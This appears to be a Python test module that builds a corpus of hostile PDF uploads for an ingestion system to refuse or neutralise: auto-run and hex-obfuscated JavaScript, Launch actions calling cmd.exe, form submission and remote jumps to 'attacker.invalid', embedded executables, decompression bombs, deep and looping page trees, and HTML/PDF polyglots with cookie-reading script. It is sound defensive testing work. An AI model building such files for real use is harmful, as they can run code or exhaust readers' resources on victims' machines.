"""Hostile PDF: scripts, starts, attachments, crowds, depths, loops, bombs, polyglots (trust.md S-07)."""

import zlib
from collections.abc import Iterator

from tests.kernel.corpus.pdf import (
    FREE,
    assembled,
    base_objects,
    modern_pdf,
    pdf,
    stream,
    text_content,
    with_pages,
)
from tests.kernel.corpus.uploads import Outcome, Upload

LINES = ["BÁO CÁO NHANH", "Tình hình phòng, chống dịch trong ngày."]
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def refused(trait: str, content: bytes, group: str = "pdf") -> Upload:
    """A PDF that must be refused."""
    return Upload(trait, group, f"{trait}.pdf", content, Outcome.REFUSED)


def actions() -> Iterator[Upload]:
    """Programs and starts hung on the catalogue, a page, a link, or hidden by spelling and packing."""
    yield refused("javascript-on-open", pdf(LINES, catalog=b"/OpenAction 6 0 R", more={FREE: SCRIPT}))
    yield refused(
        "javascript-in-names",
        pdf(LINES, catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more={FREE: SCRIPT}),
    )
    yield refused("javascript-on-page", pdf(LINES, page=b"/AA << /O 6 0 R >>", more={FREE: SCRIPT}))
    spelled = SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/#4a#53")
    yield refused("javascript-spelled-in-hex", pdf(LINES, catalog=b"/OpenAction 6 0 R", more={FREE: spelled}))
    yield refused(
        "javascript-in-object-stream", modern_pdf(LINES, hidden={FREE: SCRIPT}, catalog=b"/OpenAction 6 0 R")
    )
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A %s >>]" % SCRIPT
    yield refused("javascript-on-link", pdf(LINES, page=link))
    launch = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    yield refused("launch-on-open", pdf(LINES, catalog=b"/OpenAction 6 0 R", more={FREE: launch}))
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A %s >>]" % launch
    yield refused("launch-on-link", pdf(LINES, page=link))
    send = b"/OpenAction << /S /SubmitForm /F (http://attacker.invalid/) >>"
    yield refused("submit-form-on-open", pdf(LINES, catalog=send))
    yield refused(
        "remote-go-to",
        pdf(LINES, catalog=b"/OpenAction << /S /GoToR /F (//attacker.invalid/s/x.pdf) /D [0 /Fit] >>"),
    )
    xfa = stream(b"<xdp:xdp xmlns:xdp='u'><script>1</script></xdp:xdp>")
    yield refused("xfa-form", pdf(LINES, catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more={FREE: xfa}))


def attachments() -> Iterator[Upload]:
    """Files inside the file, media, locks."""
    inner = stream(b"MZ" + bytes(200), b" /Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>"
    names = b"/Names << /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >>"
    yield refused("embedded-file", pdf(LINES, catalog=names, more={FREE: inner, 7: spec}))
    note = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>]"
    yield refused("file-attachment-note", pdf(LINES, page=note, more={FREE: inner, 7: spec}))
    media = b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"
    yield refused("rich-media", pdf(LINES, page=media))
    lock = b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P -44 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32)
    ident = b"/Encrypt 6 0 R /ID [<00112233> <00112233>]"
    yield refused("locked-pdf", pdf(LINES, more={FREE: lock}, trailer=ident), "password")


def crowds() -> Iterator[Upload]:
    """More than a reader can hold: pages, depth, loops, unpacked size."""
    empty = base_objects()
    kids = b" ".join(b"%d 0 R" % (6 + number) for number in range(10_000))
    pages = {
        6 + number: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for number in range(10_000)
    }
    tree = {2: b"<< /Type /Pages /Count 10000 /Kids [%s] >>" % kids}
    yield refused("10000-pages", assembled(empty | tree | pages))
    deep = b"[" * 30_000 + b"]" * 30_000
    yield refused("30000-levels-of-array", pdf(LINES, catalog=b"/Deep 6 0 R", more={FREE: deep}))
    deep = b"<< /A " * 20_000 + b"1" + b" >>" * 20_000
    yield refused("20000-levels-of-dictionary", pdf(LINES, catalog=b"/Deep 6 0 R", more={FREE: deep}))
    chain = {2: b"<< /Type /Pages /Count 1 /Kids [6 0 R] >>"}
    for number in range(6, 5006):
        chain[number] = b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (
            number - 1,
            number + 1,
        )
    chain[5006] = b"<< /Type /Page /Parent 5005 0 R /MediaBox [0 0 595 842] >>"
    yield refused("page-tree-5000-deep", assembled(empty | chain))
    loop = {
        2: b"<< /Type /Pages /Count 1 /Kids [6 0 R] >>",
        6: b"<< /Type /Pages /Count 1 /Parent 2 0 R /Kids [2 0 R] >>",
    }
    yield refused("page-tree-loop", assembled(empty | loop))
    plain = assembled(with_pages(base_objects(), [stream(text_content(LINES))]))
    start = plain.rindex(b"xref\n0 ")
    itself = plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)
    yield Upload("cross-reference-loop", "pdf", "muc luc lap.pdf", itself, Outcome.NEUTRALISED)
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(250)) + packer.flush()
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(bomb), bomb)
    yield refused("250-mb-content-stream", assembled(with_pages(base_objects(), [body])))
    twice = zlib.compress(bomb, 9)
    body = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (
        len(twice),
        twice,
    )
    yield refused("twice-packed-content-stream", assembled(with_pages(base_objects(), [body])))


def shapes() -> Iterator[Upload]:
    """Torn files and files that are two things at once."""
    plain = pdf(LINES, LINES)
    yield refused("pdf-first-third", plain[: len(plain) // 3], "damaged")
    yield refused("pdf-header-only", b"%PDF-1.7\n", "damaged")
    yield refused(
        "pdf-of-noise", b"%PDF-1.7\n" + bytes(number * 37 % 256 for number in range(5000)), "damaged"
    )
    page = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
    yield refused("html-then-pdf", page + plain, "type")
    yield refused("pdf-then-html", plain.replace(b"%\xe2\xe3\xcf\xd3", b"<script>alert(1)</script>"), "type")
    yield Upload("pdf-with-html-tail", "type", "duoi la.pdf", plain + page, Outcome.NEUTRALISED)
    yield refused("zip-then-pdf", b"PK\x03\x04" + bytes(26) + plain, "type")


def pdfs() -> Iterator[Upload]:
    """All hostile PDF files."""
    for family in (actions, attachments, crowds, shapes):
        yield from family()
